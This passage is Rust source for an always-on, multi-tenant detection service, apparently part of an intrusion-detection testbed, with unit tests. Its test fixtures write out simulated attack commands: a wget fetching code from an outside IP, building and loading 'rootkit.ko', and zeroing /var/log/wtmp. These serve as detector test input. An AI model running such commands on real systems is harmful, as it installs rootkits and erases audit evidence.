//! Always-on multi-tenant service mode.
//!
//! The paper's deployment is not a batch job: the testbed mirrors *all*
//! production traffic into the models, continuously, for months. This
//! module packages the stage chain as a long-lived daemon:
//!
//! - **[`ServiceHandle`]** owns a worker thread driving one inline stage
//!   chain per tenant, the same chain
//!   [`BuiltPipeline::run_inline`](crate::stage::BuiltPipeline::run_inline)
//!   drives. Ingestion is backpressure-aware: the control queue is
//!   bounded, [`ServiceHandle::ingest`] blocks when the worker falls
//!   behind and [`ServiceHandle::try_ingest`] refuses with
//!   [`ServiceError::Backpressure`] instead.
//! - **Tenant isolation**: each tenant gets its own detector state and —
//!   via [`TenantSymbols`] — its own symbol universe, evicted when the
//!   tenant goes away ([`ServiceHandle::evict_tenant`]). The tenant's
//!   [`SymScope`] is threaded through the whole pipeline: the factory
//!   receives it so the symbolizer, correlator and response stage all
//!   mint and resolve in the tenant's table, and ingest re-mints
//!   record symbols from the caller's global scope into it. The re-mint
//!   runs inside the symbolize loop, in the pipeline's one pass over the
//!   owned batch: each record is rewritten in place
//!   ([`LogRecord::remap_syms`]) just before it is symbolized, through a
//!   per-session memo indexed by global symbol id, so each distinct
//!   string is re-interned once. Symbolize and the later stages intern
//!   nothing per record, so ids come out in the order
//!   [`LogRecord::rescope`] would intern them. Snapshots never persist
//!   raw symbol ids: they name symbols by position in the tenant's
//!   universe.
//! - **Snapshot / restore**: [`ServiceHandle::snapshot`] captures a
//!   tenant's full mid-stream detection state — scan-filter windows,
//!   tagger posteriors, the campaign graph, stream counters, and the
//!   scoped symbol universe — as a [`ServiceSnapshot`] that serializes to
//!   JSON ([`ServiceSnapshot::to_json`] / [`ServiceSnapshot::from_json`]).
//!   Restoring it into a fresh process and replaying the stream tail
//!   yields byte-identical detections to the uninterrupted run: a service
//!   restart loses no detections. Restore interns the universe into the
//!   tenant's scope and translates every stored position through the
//!   resulting [`SymMap`], so a snapshot also restores into a scope that
//!   already holds other symbols.
//!
//! Retained-alert analysis buffers are deliberately *not* part of the
//! snapshot: they are a reporting tee, not detection state, so a restored
//! session reports retention counters for its own lifetime only.

use std::fmt;
use std::sync::mpsc::{Receiver, Sender, SyncSender, TrySendError};
use std::sync::Arc;
use std::thread::JoinHandle;

use alertlib::filter::FilterSnapshot;
use detect::attack_tagger::TaggerSnapshot;
use detect::correlate::CorrelatorSnapshot;
use simnet::intern::{Sym, SymMap, SymScope, SymUniverse, TenantId, TenantSymbols};
use simnet::rng::FxHashMap;
use telemetry::record::LogRecord;

use crate::stage::builder::BuiltPipeline;
use crate::stage::executor::InlineCore;
use crate::stage::StreamReport;
use crate::stage::StreamStats;

mod codec;

/// Service daemon settings.
#[derive(Debug, Clone)]
pub struct ServiceConfig {
    /// Bound on queued control messages (ingest batches and snapshot /
    /// restore / evict requests). When the worker falls this far behind,
    /// [`ServiceHandle::ingest`] blocks and [`ServiceHandle::try_ingest`]
    /// reports [`ServiceError::Backpressure`]. Minimum 1.
    pub queue_depth: usize,
}

impl Default for ServiceConfig {
    fn default() -> Self {
        ServiceConfig { queue_depth: 64 }
    }
}

/// Why a service call failed.
#[derive(Debug, PartialEq, Eq)]
pub enum ServiceError {
    /// [`ServiceHandle::try_ingest`]: the bounded control queue is full.
    Backpressure,
    /// The worker thread has shut down (or panicked).
    ShutDown,
    /// The tenant has no live session.
    UnknownTenant(TenantId),
    /// A snapshot could not be decoded or does not fit the pipeline it is
    /// being restored into.
    MalformedSnapshot(String),
}

impl fmt::Display for ServiceError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            ServiceError::Backpressure => write!(f, "ingest queue full (backpressure)"),
            ServiceError::ShutDown => write!(f, "service worker has shut down"),
            ServiceError::UnknownTenant(t) => write!(f, "no live session for {t}"),
            ServiceError::MalformedSnapshot(why) => write!(f, "malformed snapshot: {why}"),
        }
    }
}

impl std::error::Error for ServiceError {}

/// Everything a tenant session needs to survive a process restart, in
/// process-independent form: symbols are positions in `sym_universe`,
/// never raw interner ids. Produced by [`ServiceHandle::snapshot`],
/// consumed by [`ServiceHandle::restore`];
/// [`to_json`](ServiceSnapshot::to_json) /
/// [`from_json`](ServiceSnapshot::from_json) round-trip it through disk.
#[derive(Debug, Clone, PartialEq)]
pub struct ServiceSnapshot {
    pub tenant: TenantId,
    /// Cumulative stream counters (records / alerts / admitted /
    /// detections) — restored sessions keep counting from here.
    pub stats: StreamStats,
    /// Scan-filter dedup windows.
    pub filter: FilterSnapshot,
    /// Tagger posteriors; `None` when the detection slot holds a
    /// baseline detector (which keeps no cross-restart state).
    pub tagger: Option<TaggerSnapshot>,
    /// Campaign graph; `None` when correlation is off.
    pub correlator: Option<CorrelatorSnapshot>,
    /// The tenant's scoped symbol universe in intern order. Every user
    /// and palette payload in the state above is a position in it;
    /// restore re-interns the strings and translates the positions.
    pub sym_universe: SymUniverse,
}

/// One tenant's live pipeline session inside the worker.
struct TenantSession {
    core: InlineCore,
    scope: SymScope,
    memo: SymMemo,
}

impl TenantSession {
    /// A fresh session: the factory's pipeline, minting into `scope`.
    fn new(
        factory: &mut (impl FnMut(TenantId, SymScope) -> BuiltPipeline + Send),
        tenant: TenantId,
        scope: SymScope,
    ) -> TenantSession {
        TenantSession {
            core: InlineCore::new(factory(tenant, scope.clone())),
            scope,
            memo: SymMemo::default(),
        }
    }
}

/// Dense global→tenant symbol translation for one session, indexed by
/// the global [`Sym::id`] (4 bytes per global id up to the highest one
/// ingested). A miss re-mints the string into the tenant's scope once;
/// every later sighting is an array load. Entries stay valid for the
/// session's life because tenant tables are append-only (restore only
/// appends); eviction drops the memo with the session.
#[derive(Default)]
struct SymMemo {
    /// Tenant-table id per global id; [`SymMemo::UNSEEN`] until first
    /// sighting.
    ids: Vec<u32>,
}

impl SymMemo {
    const UNSEEN: u32 = u32::MAX;

    /// The tenant symbol for global `s`. The hit path is an array load
    /// kept inline in the per-symbol loop; a miss goes out of line.
    #[inline]
    fn translate(&mut self, global: &SymScope, scope: &SymScope, s: Sym) -> Sym {
        match self.ids.get(s.id() as usize) {
            Some(&id) if id != Self::UNSEEN => {
                // A hit skips `global.resolve`, so keep its debug
                // cross-table guard here.
                #[cfg(debug_assertions)]
                if let Err(e) = global.try_resolve(s) {
                    panic!("ingested record carries a non-global symbol: {e}");
                }
                scope.sym_from_id(id)
            }
            _ => self.mint(global, scope, s),
        }
    }

    /// First sighting of global `s`: re-mint its string into the tenant
    /// scope and remember the tenant id.
    #[cold]
    #[inline(never)]
    fn mint(&mut self, global: &SymScope, scope: &SymScope, s: Sym) -> Sym {
        // Resolve before growing: a foreign or out-of-range id panics
        // here instead of sizing the memo to it.
        let t = scope.sym(global.resolve(s));
        let i = s.id() as usize;
        if i >= self.ids.len() {
            self.ids.resize(i + 1, Self::UNSEEN);
        }
        self.ids[i] = t.id();
        t
    }
}

enum Control {
    Ingest(TenantId, Vec<LogRecord>),
    Snapshot(TenantId, Sender<Result<Box<ServiceSnapshot>, ServiceError>>),
    Restore(Box<ServiceSnapshot>, Sender<Result<(), ServiceError>>),
    Evict(TenantId, Sender<Result<Box<StreamReport>, ServiceError>>),
    Shutdown,
    /// Test hook: park the worker until the receiver yields, making
    /// queue backpressure deterministic to provoke.
    #[cfg(test)]
    Wait(Receiver<()>),
}

/// Handle to a running multi-tenant detection service. Dropping the
/// handle shuts the worker down (discarding final reports); call
/// [`ServiceHandle::shutdown`] to collect them instead.
pub struct ServiceHandle {
    tx: SyncSender<Control>,
    worker: Option<JoinHandle<Vec<(TenantId, StreamReport)>>>,
    symbols: Arc<TenantSymbols>,
}

impl ServiceHandle {
    /// Start the service worker. `factory` builds one fresh pipeline per
    /// tenant session (tenants never share detector state); it runs on
    /// the worker thread and receives the tenant's id plus its scoped
    /// symbol table — wire the scope into the pipeline with
    /// [`PipelineBuilder::scope`](crate::stage::PipelineBuilder::scope)
    /// so the session's symbols live in the tenant's universe.
    pub fn spawn(
        config: ServiceConfig,
        mut factory: impl FnMut(TenantId, SymScope) -> BuiltPipeline + Send + 'static,
    ) -> ServiceHandle {
        let (tx, rx) = std::sync::mpsc::sync_channel(config.queue_depth.max(1));
        let symbols = Arc::new(TenantSymbols::new());
        let worker_symbols = Arc::clone(&symbols);
        let worker = std::thread::Builder::new()
            .name("testbed-service".into())
            .spawn(move || worker_loop(rx, &worker_symbols, &mut factory))
            .expect("spawn service worker");
        ServiceHandle {
            tx,
            worker: Some(worker),
            symbols,
        }
    }

    /// Queue a record batch for `tenant`, creating its session on first
    /// use. Blocks while the control queue is full — the backpressure
    /// path for callers that would rather wait than shed load.
    pub fn ingest(&self, tenant: TenantId, records: Vec<LogRecord>) -> Result<(), ServiceError> {
        self.tx
            .send(Control::Ingest(tenant, records))
            .map_err(|_| ServiceError::ShutDown)
    }

    /// Non-blocking [`ingest`](ServiceHandle::ingest): refuses with
    /// [`ServiceError::Backpressure`] (returning the records) when the
    /// control queue is full, so load-shedding callers keep their batch.
    pub fn try_ingest(
        &self,
        tenant: TenantId,
        records: Vec<LogRecord>,
    ) -> Result<(), (ServiceError, Vec<LogRecord>)> {
        self.tx
            .try_send(Control::Ingest(tenant, records))
            .map_err(|e| match e {
                TrySendError::Full(Control::Ingest(_, r)) => (ServiceError::Backpressure, r),
                TrySendError::Disconnected(Control::Ingest(_, r)) => (ServiceError::ShutDown, r),
                _ => unreachable!("try_send returns the sent message"),
            })
    }

    /// Capture `tenant`'s full mid-stream detection state. Runs in-band
    /// on the worker (after every batch queued before it), so the
    /// snapshot is a consistent prefix of the stream.
    pub fn snapshot(&self, tenant: TenantId) -> Result<ServiceSnapshot, ServiceError> {
        let (reply_tx, reply_rx) = std::sync::mpsc::channel();
        self.tx
            .send(Control::Snapshot(tenant, reply_tx))
            .map_err(|_| ServiceError::ShutDown)?;
        reply_rx
            .recv()
            .map_err(|_| ServiceError::ShutDown)?
            .map(|b| *b)
    }

    /// Restore a tenant session from a snapshot, creating the session if
    /// absent (the restart path). The session's pipeline comes from the
    /// service factory; the snapshot supplies its state.
    pub fn restore(&self, snapshot: ServiceSnapshot) -> Result<(), ServiceError> {
        let (reply_tx, reply_rx) = std::sync::mpsc::channel();
        self.tx
            .send(Control::Restore(Box::new(snapshot), reply_tx))
            .map_err(|_| ServiceError::ShutDown)?;
        reply_rx.recv().map_err(|_| ServiceError::ShutDown)?
    }

    /// End a dead tenant's session: flush its pipeline, return its final
    /// report, and evict its scoped symbol universe. A tenant with a
    /// registered scope but no session loses the scope and gets
    /// [`ServiceError::UnknownTenant`].
    pub fn evict_tenant(&self, tenant: TenantId) -> Result<StreamReport, ServiceError> {
        let (reply_tx, reply_rx) = std::sync::mpsc::channel();
        self.tx
            .send(Control::Evict(tenant, reply_tx))
            .map_err(|_| ServiceError::ShutDown)?;
        reply_rx
            .recv()
            .map_err(|_| ServiceError::ShutDown)?
            .map(|b| *b)
    }

    /// The per-tenant symbol registry (live tenants, eviction counters,
    /// payload accounting).
    pub fn symbols(&self) -> &TenantSymbols {
        &self.symbols
    }

    /// Flush every live session and return `(tenant, final report)`
    /// pairs, ascending by tenant. A worker that panicked re-raises its
    /// panic here rather than losing every report silently.
    pub fn shutdown(mut self) -> Vec<(TenantId, StreamReport)> {
        let _ = self.tx.send(Control::Shutdown);
        match self.worker.take().map(JoinHandle::join) {
            Some(Ok(reports)) => reports,
            Some(Err(panic)) => std::panic::resume_unwind(panic),
            None => Vec::new(),
        }
    }

    #[cfg(test)]
    fn send_wait(&self, gate: Receiver<()>) {
        let _ = self.tx.send(Control::Wait(gate));
    }
}

impl Drop for ServiceHandle {
    fn drop(&mut self) {
        if let Some(h) = self.worker.take() {
            let _ = self.tx.send(Control::Shutdown);
            let _ = h.join();
        }
    }
}

fn worker_loop(
    rx: Receiver<Control>,
    symbols: &TenantSymbols,
    factory: &mut (impl FnMut(TenantId, SymScope) -> BuiltPipeline + Send),
) -> Vec<(TenantId, StreamReport)> {
    let mut sessions: FxHashMap<TenantId, TenantSession> = FxHashMap::default();
    let global = SymScope::global();
    loop {
        let msg = match rx.recv() {
            Ok(m) => m,
            // All handles gone: final flush below.
            Err(_) => break,
        };
        match msg {
            Control::Ingest(tenant, mut records) => {
                let session = sessions
                    .entry(tenant)
                    .or_insert_with(|| TenantSession::new(factory, tenant, symbols.scope(tenant)));
                // Callers mint record symbols in the global scope;
                // re-mint them into the tenant's universe so every
                // symbol the session touches lives (and dies) with it.
                // Each record is translated just before it is symbolized,
                // in the pipeline's one pass over the batch.
                let TenantSession { core, scope, memo } = session;
                core.process_records_at(None, &mut records, |r| {
                    r.remap_syms(|s| memo.translate(&global, scope, s))
                });
            }
            Control::Snapshot(tenant, reply) => {
                let result = match sessions.get(&tenant) {
                    None => Err(ServiceError::UnknownTenant(tenant)),
                    Some(s) => Ok(Box::new(export_session(tenant, s))),
                };
                let _ = reply.send(result);
            }
            Control::Restore(snapshot, reply) => {
                let tenant = snapshot.tenant;
                let result = match sessions.get_mut(&tenant) {
                    Some(session) => import_session(session, &snapshot),
                    None => {
                        // Build the session detached, on the tenant's
                        // registered scope if it has one, and register both
                        // only once the restore succeeds: a refused restore
                        // leaves no tenant behind.
                        let scope = symbols.get(tenant).unwrap_or_else(SymScope::fresh);
                        let mut session = TenantSession::new(factory, tenant, scope);
                        import_session(&mut session, &snapshot).map(|()| {
                            symbols.insert(tenant, session.scope.clone());
                            sessions.insert(tenant, session);
                        })
                    }
                };
                let _ = reply.send(result);
            }
            Control::Evict(tenant, reply) => {
                let result = match sessions.remove(&tenant) {
                    None => Err(ServiceError::UnknownTenant(tenant)),
                    Some(mut s) => {
                        s.core.flush();
                        Ok(Box::new(s.core.into_report()))
                    }
                };
                // A scope registered through `symbols().scope(t)` may have
                // no session; it goes with the tenant all the same.
                symbols.evict(tenant);
                let _ = reply.send(result);
            }
            Control::Shutdown => break,
            #[cfg(test)]
            Control::Wait(gate) => {
                let _ = gate.recv();
            }
        }
    }
    let mut reports: Vec<(TenantId, StreamReport)> = sessions
        .into_iter()
        .map(|(tenant, mut s)| {
            s.core.flush();
            (tenant, s.core.into_report())
        })
        .collect();
    reports.sort_by_key(|(t, _)| *t);
    reports
}

fn export_session(tenant: TenantId, session: &TenantSession) -> ServiceSnapshot {
    let core = &session.core;
    ServiceSnapshot {
        tenant,
        stats: core.stats,
        filter: core.filter.filter().export_state(),
        tagger: core.detect.as_tagger().map(|t| t.export_state()),
        correlator: core.correlate.as_ref().map(|c| c.export_state()),
        // Read last: every symbol the state names is already interned,
        // and a symbol's id is its position here.
        sym_universe: session.scope.snapshot(),
    }
}

fn import_session(session: &mut TenantSession, snap: &ServiceSnapshot) -> Result<(), ServiceError> {
    // Validate shape before mutating anything: a restore must be
    // all-or-nothing.
    if snap.tagger.is_some() && session.core.detect.as_tagger().is_none() {
        return Err(ServiceError::MalformedSnapshot(
            "snapshot carries tagger posteriors but the pipeline's detection \
             slot is not the attack tagger"
                .into(),
        ));
    }
    if snap.correlator.is_some() && session.core.correlate.is_none() {
        return Err(ServiceError::MalformedSnapshot(
            "snapshot carries a campaign graph but the pipeline has \
             correlation disabled"
                .into(),
        ));
    }
    // Intern the universe in order. Into a fresh tenant (whose pipeline
    // interned the same palette prefix at construction) every string
    // keeps its position as its id, so entity raw keys, link orientation
    // and join-key values match the snapshotting process. A restore that
    // then fails leaves these strings interned: tenant tables are
    // append-only, and the session's memo and state stay valid.
    let syms = SymMap::replay(&session.scope, &snap.sym_universe);
    // Decode everything before installing anything: a restore is
    // all-or-nothing.
    let tagger = (snap.tagger.as_ref())
        .map(|t| t.decode(&syms))
        .transpose()
        .map_err(ServiceError::MalformedSnapshot)?;
    let correlator = (snap.correlator.as_ref())
        .map(|c| c.decode(&syms))
        .transpose()
        .map_err(ServiceError::MalformedSnapshot)?;
    // The filter decodes into fresh state and installs it only on success.
    session
        .core
        .filter
        .filter_mut()
        .import_state(&snap.filter, &syms)
        .map_err(ServiceError::MalformedSnapshot)?;
    if let Some(tagger) = tagger {
        session
            .core
            .detect
            .as_tagger_mut()
            .expect("validated above")
            .install(tagger);
    }
    if let Some(correlator) = correlator {
        session
            .core
            .correlate
            .as_mut()
            .expect("validated above")
            .install(correlator);
    }
    session.core.stats = snap.stats;
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::PipelineTuning;
    use crate::stage::PipelineBuilder;
    use detect::attack_tagger::{AttackTagger, TaggerConfig, TemporalPolicy};
    use detect::correlate::CorrelationPolicy;
    use detect::train::toy_training_model;
    use simnet::action::{AuthMethod, DbCommandKind, FileOp};
    use simnet::flow::{ConnState, Direction, FlowId, Proto, Service};
    use simnet::time::{SimDuration, SimTime};
    use telemetry::record::{
        AuditRecord, AuthRecord, ConnRecord, DbRecord, FileRecord, HttpRecord, NoticeKind,
        NoticeRecord, ProcessRecord, SshRecord,
    };

    fn attack_records(user: &str, base: u64) -> Vec<LogRecord> {
        [
            "wget http://64.215.4.5/abs.c",
            "make -C /lib/modules/4.4/build modules",
            "insmod rootkit.ko",
            "echo 0>/var/log/wtmp",
        ]
        .iter()
        .enumerate()
        .map(|(i, c)| {
            LogRecord::Process(ProcessRecord {
                ts: SimTime::from_secs(base + i as u64 * 60),
                host: simnet::topology::HostId(0),
                hostname: "cn01".into(),
                user: user.into(),
                pid: 100 + i as u32,
                ppid: 1,
                exe: "/bin/sh".into(),
                cmdline: (*c).into(),
            })
        })
        .collect()
    }

    fn probe_record(i: u64) -> LogRecord {
        LogRecord::Conn(ConnRecord {
            ts: SimTime::from_secs(i),
            uid: FlowId(i),
            orig_h: "103.102.1.1".parse().unwrap(),
            orig_p: 40_000,
            resp_h: format!("141.142.2.{}", 1 + (i % 250)).parse().unwrap(),
            resp_p: 22,
            proto: Proto::Tcp,
            service: Service::Ssh,
            duration: SimDuration::ZERO,
            orig_bytes: 0,
            resp_bytes: 0,
            conn_state: ConnState::S0,
            direction: Direction::Inbound,
        })
    }

    /// One record of every kind. Users, hosts and binaries repeat across
    /// kinds and calls, so a stream of these both misses and hits the
    /// ingest memo.
    fn mixed_records(i: u64) -> Vec<LogRecord> {
        let ts = SimTime::from_secs(i * 10);
        let host = simnet::topology::HostId(1);
        let a: std::net::Ipv4Addr = "103.102.1.1".parse().unwrap();
        let b: std::net::Ipv4Addr = "141.142.2.1".parse().unwrap();
        let user = Sym::from(format!("user{}", i % 3));
        vec![
            probe_record(i),
            LogRecord::Http(HttpRecord {
                ts,
                uid: FlowId(i),
                orig_h: a,
                resp_h: b,
                method: "GET".into(),
                host: "64.215.4.5".into(),
                uri: format!("/abs{i}.c").into(),
                status: 200,
                mime: "application/x-executable".into(),
                user_agent: "Wget/1.19".into(),
            }),
            LogRecord::Ssh(SshRecord {
                ts,
                uid: FlowId(i),
                orig_h: a,
                resp_h: b,
                user,
                method: AuthMethod::Password,
                success: i.is_multiple_of(2),
                client_banner: "SSH-2.0-libssh".into(),
                direction: Direction::Inbound,
            }),
            LogRecord::Notice(NoticeRecord {
                ts,
                note: NoticeKind::Custom("alert_ransomware".into()),
                msg: format!("notice {i}").into(),
                src: a,
                dst: Some(b),
                sub: "cn01".into(),
            }),
            LogRecord::Process(ProcessRecord {
                ts,
                host,
                hostname: "cn01".into(),
                user,
                pid: 1,
                ppid: 0,
                exe: "/bin/sh".into(),
                cmdline: "wget http://64.215.4.5/abs.c".into(),
            }),
            LogRecord::File(FileRecord {
                ts,
                host,
                hostname: "cn01".into(),
                user,
                path: format!("/tmp/f{i}").into(),
                op: FileOp::Create,
                process: "/bin/sh".into(),
            }),
            LogRecord::Auth(AuthRecord {
                ts,
                host,
                hostname: "cn02".into(),
                user,
                method: AuthMethod::PublicKey,
                success: true,
                src_addr: Some(a),
            }),
            LogRecord::Audit(AuditRecord {
                ts,
                host,
                hostname: "cn01".into(),
                user: "root".into(),
                syscall: "init_module".into(),
                args: format!("rootkit{i}.ko").into(),
                exit_code: 0,
            }),
            LogRecord::Db(DbRecord {
                ts,
                uid: FlowId(i),
                orig_h: a,
                resp_h: b,
                host: Some(host),
                user: "postgres".into(),
                command: DbCommandKind::Query,
                statement: "SELECT version()".into(),
            }),
        ]
    }

    fn factory() -> impl FnMut(TenantId, SymScope) -> BuiltPipeline + Send + 'static {
        |_, scope| {
            PipelineBuilder::new()
                .tagger(AttackTagger::new(
                    toy_training_model(),
                    TaggerConfig::default(),
                ))
                .scope(scope)
                .build()
        }
    }

    /// A notification backend that panics: any detection takes the
    /// worker down.
    struct PanickingNotify;

    impl crate::stage::NotifyBackend for PanickingNotify {
        fn try_notify(
            &mut self,
            _: &crate::report::OperatorNotification,
        ) -> Result<(), bhr::retry::BlockError> {
            panic!("notify backend exploded");
        }
    }

    /// A worker that died must not shut down as if it had no tenants:
    /// `shutdown` re-raises its panic instead of returning no reports.
    #[test]
    #[should_panic(expected = "notify backend exploded")]
    fn shutdown_reraises_a_dead_workers_panic() {
        let service = ServiceHandle::spawn(ServiceConfig::default(), |_, scope| {
            PipelineBuilder::new()
                .tagger(AttackTagger::new(
                    toy_training_model(),
                    TaggerConfig::default(),
                ))
                .notify_backend(PanickingNotify)
                .scope(scope)
                .build()
        });
        service
            .ingest(TenantId(1), attack_records("eve", 10))
            .unwrap();
        service.shutdown();
    }

    #[test]
    fn tenants_are_isolated_and_reported_separately() {
        let service = ServiceHandle::spawn(ServiceConfig::default(), factory());
        let attacker = TenantId(1);
        let benign = TenantId(2);
        service.ingest(attacker, attack_records("eve", 10)).unwrap();
        service
            .ingest(benign, (0..200).map(probe_record).collect())
            .unwrap();
        let reports = service.shutdown();
        let by_tenant: FxHashMap<TenantId, &StreamReport> =
            reports.iter().map(|(t, r)| (*t, r)).collect();
        assert_eq!(reports.len(), 2);
        assert_eq!(
            by_tenant[&attacker].stats.detections, 1,
            "attacker tenant's S1 chain detected"
        );
        assert_eq!(
            by_tenant[&benign].stats.detections, 0,
            "benign tenant unaffected by the other tenant's attack"
        );
        assert!(by_tenant[&benign].stats.records == 200);
    }

    #[test]
    fn memo_translates_each_global_symbol_once() {
        let global = SymScope::global();
        let tenant = SymScope::fresh();
        let mut memo = SymMemo::default();
        let s = global.sym("memo-probe-string");
        let t = memo.translate(&global, &tenant, s);
        assert_eq!(tenant.resolve(t), "memo-probe-string");
        let len = tenant.len();
        assert_eq!(memo.translate(&global, &tenant, s), t);
        assert_eq!(tenant.len(), len, "a memo hit interns nothing");
    }

    /// The memo hit path skips `global.resolve`, so it must keep the
    /// debug cross-table guard itself. Tested on the helper directly, so
    /// the panic is raised on the test's own thread.
    #[cfg(debug_assertions)]
    #[test]
    #[should_panic(expected = "non-global symbol")]
    fn memo_hit_rejects_symbols_not_minted_globally() {
        let global = SymScope::global();
        let tenant = SymScope::fresh();
        let foreign = SymScope::fresh().sym("minted-elsewhere");
        global.sym("memo-guard-padding");
        let mut memo = SymMemo::default();
        // Populate the memo slot the foreign handle's id indexes.
        memo.translate(&global, &tenant, global.sym_from_id(foreign.id()));
        memo.translate(&global, &tenant, foreign);
    }

    /// A record carrying a global id past the global table panics in the
    /// memo's miss path, in release builds too, before the memo grows or
    /// the tenant table interns anything.
    #[test]
    fn memo_miss_rejects_ids_past_the_global_table() {
        let global = SymScope::global();
        let tenant = SymScope::fresh();
        let mut memo = SymMemo::default();
        let mut known = attack_records("memo-miss-user", 0).swap_remove(0);
        known.remap_syms(|s| memo.translate(&global, &tenant, s));
        let (memo_len, tenant_len) = (memo.ids.len(), tenant.len());
        assert!(memo_len > 0);
        // Far enough past the table that concurrent tests cannot reach it,
        // near enough that a memo grown to it stays small.
        let past = Sym::from_id(global.len() as u32 + (1 << 20));
        let mut bad = attack_records("memo-miss-user", 0).swap_remove(0);
        if let LogRecord::Process(p) = &mut bad {
            p.hostname = past;
        }
        let caught = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
            bad.remap_syms(|s| memo.translate(&global, &tenant, s))
        }));
        assert!(caught.is_err(), "an id past the global table must panic");
        assert_eq!(memo.ids.len(), memo_len, "a rejected miss grows nothing");
        assert_eq!(tenant.len(), tenant_len, "a rejected miss interns nothing");
    }

    #[test]
    fn memoised_ingest_interns_in_rescope_order() {
        let batches: Vec<Vec<LogRecord>> = (0..6).map(mixed_records).collect();
        let service = ServiceHandle::spawn(ServiceConfig::default(), factory());
        let tenant = TenantId(11);
        for batch in &batches {
            service.ingest(tenant, batch.clone()).unwrap();
        }
        let universe = service.snapshot(tenant).unwrap().sym_universe;
        assert_eq!(universe, service.symbols().get(tenant).unwrap().snapshot());
        let (_, report) = service.shutdown().pop().unwrap();

        // Reference: the same pipeline in a fresh scope fed per-record
        // `rescope`d copies, batch by batch (the pipeline pre-interns
        // its own palette at construction, ahead of any record).
        let global = SymScope::global();
        let fresh = SymScope::fresh();
        let mut core = InlineCore::new(factory()(tenant, fresh.clone()));
        for batch in &batches {
            let mut scoped: Vec<LogRecord> =
                batch.iter().map(|r| r.rescope(&global, &fresh)).collect();
            core.process_records_at(None, &mut scoped, |_| {});
        }
        assert_eq!(universe, fresh.snapshot());
        core.flush();
        let reference = core.into_report();
        assert_eq!(report.stats, reference.stats);
        assert_eq!(report.notifications, reference.notifications);
    }

    #[test]
    fn evicted_tenant_reingests_identically() {
        let service = ServiceHandle::spawn(ServiceConfig::default(), factory());
        let tenant = TenantId(12);
        let stream: Vec<Vec<LogRecord>> = (0..4)
            .map(mixed_records)
            .chain([attack_records("user1", 100)])
            .collect();
        // Each lifetime starts a fresh scope and an empty memo; a memo
        // surviving eviction would translate into the dead table.
        let lifetime = || {
            for batch in &stream {
                service.ingest(tenant, batch.clone()).unwrap();
            }
            let universe = service.snapshot(tenant).unwrap().sym_universe;
            (universe, service.evict_tenant(tenant).unwrap())
        };
        let (first_universe, first) = lifetime();
        let (second_universe, second) = lifetime();
        assert!(first.stats.detections > 0, "workload must detect");
        assert_eq!(first.notifications, second.notifications);
        assert_eq!(first.stats, second.stats);
        assert_eq!(first_universe, second_universe);
        assert_eq!(service.symbols().evicted(), 2);
    }

    #[test]
    fn try_ingest_reports_backpressure_when_queue_full() {
        let service = ServiceHandle::spawn(ServiceConfig { queue_depth: 2 }, factory());
        // Park the worker so nothing drains.
        let (gate_tx, gate_rx) = std::sync::mpsc::channel();
        service.send_wait(gate_rx);
        let tenant = TenantId(7);
        let mut accepted = 0u32;
        let mut shed = None;
        for i in 0..8 {
            match service.try_ingest(tenant, vec![probe_record(i)]) {
                Ok(()) => accepted += 1,
                Err((e, returned)) => {
                    assert_eq!(e, ServiceError::Backpressure);
                    assert_eq!(returned.len(), 1, "shed batch handed back");
                    shed = Some(i);
                    break;
                }
            }
        }
        let shed = shed.expect("bounded queue must push back");
        assert!((1..=3).contains(&accepted), "depth-2 queue: {accepted}");
        // Release the worker; everything accepted still processes.
        gate_tx.send(()).unwrap();
        let reports = service.shutdown();
        assert_eq!(reports.len(), 1);
        assert_eq!(reports[0].1.stats.records, u64::from(accepted));
        assert!(shed >= u64::from(accepted), "shed batch was never queued");
    }

    #[test]
    fn evict_tenant_returns_report_and_frees_symbols() {
        let service = ServiceHandle::spawn(ServiceConfig::default(), factory());
        let t1 = TenantId(1);
        let t2 = TenantId(2);
        service.ingest(t1, attack_records("mallory", 0)).unwrap();
        service.ingest(t2, attack_records("trent", 0)).unwrap();
        let report = service.evict_tenant(t1).unwrap();
        assert_eq!(report.stats.detections, 1);
        assert_eq!(service.symbols().tenants(), vec![t2]);
        assert_eq!(service.symbols().evicted(), 1);
        assert_eq!(
            service.evict_tenant(t1).err(),
            Some(ServiceError::UnknownTenant(t1)),
            "second evict finds no session"
        );
        // Only the surviving tenant reports at shutdown.
        let reports = service.shutdown();
        assert_eq!(reports.len(), 1);
        assert_eq!(reports[0].0, t2);
    }

    /// A scope registered without a session (as a caller does before a
    /// restore) is evicted like any other: the registry forgets it even
    /// though there is no report to return.
    #[test]
    fn evicting_a_scope_only_tenant_drops_its_scope() {
        let service = ServiceHandle::spawn(ServiceConfig::default(), factory());
        let t = TenantId(3);
        service.symbols().scope(t).sym("pre-seeded");
        assert_eq!(service.symbols().tenants(), vec![t]);
        assert_eq!(
            service.evict_tenant(t).err(),
            Some(ServiceError::UnknownTenant(t))
        );
        assert!(service.symbols().tenants().is_empty());
        assert_eq!(service.symbols().evicted(), 1);
        assert!(service.shutdown().is_empty());
    }

    #[test]
    fn snapshot_of_unknown_tenant_fails() {
        let service = ServiceHandle::spawn(ServiceConfig::default(), factory());
        assert_eq!(
            service.snapshot(TenantId(9)),
            Err(ServiceError::UnknownTenant(TenantId(9)))
        );
    }

    #[test]
    fn restore_rejects_mismatched_pipeline() {
        // Snapshot from a tagger pipeline, restored into a service whose
        // pipelines use the critical-only baseline: must refuse.
        let service = ServiceHandle::spawn(ServiceConfig::default(), factory());
        let tenant = TenantId(3);
        service.ingest(tenant, attack_records("eve", 0)).unwrap();
        let snap = service.snapshot(tenant).unwrap();
        drop(service);
        let baseline = ServiceHandle::spawn(ServiceConfig::default(), |_, scope| {
            PipelineBuilder::new()
                .critical_detector()
                .scope(scope)
                .build()
        });
        match baseline.restore(snap) {
            Err(ServiceError::MalformedSnapshot(why)) => {
                assert!(why.contains("attack tagger"), "{why}")
            }
            other => panic!("expected MalformedSnapshot, got {other:?}"),
        }
    }

    #[test]
    fn malformed_restore_fails_and_spares_the_other_tenants() {
        let service = ServiceHandle::spawn(ServiceConfig::default(), factory());
        let (t1, t2) = (TenantId(1), TenantId(2));
        service.ingest(t1, attack_records("eve", 0)).unwrap();
        service.ingest(t2, attack_records("trent", 0)).unwrap();
        let before = service.snapshot(t1).unwrap();
        // An entity past the universe survives the wire codec: only the
        // restore can refuse it.
        let mut bad = before.clone();
        bad.tagger.as_mut().unwrap().entities[0].entity = alertlib::alert::SnapKey {
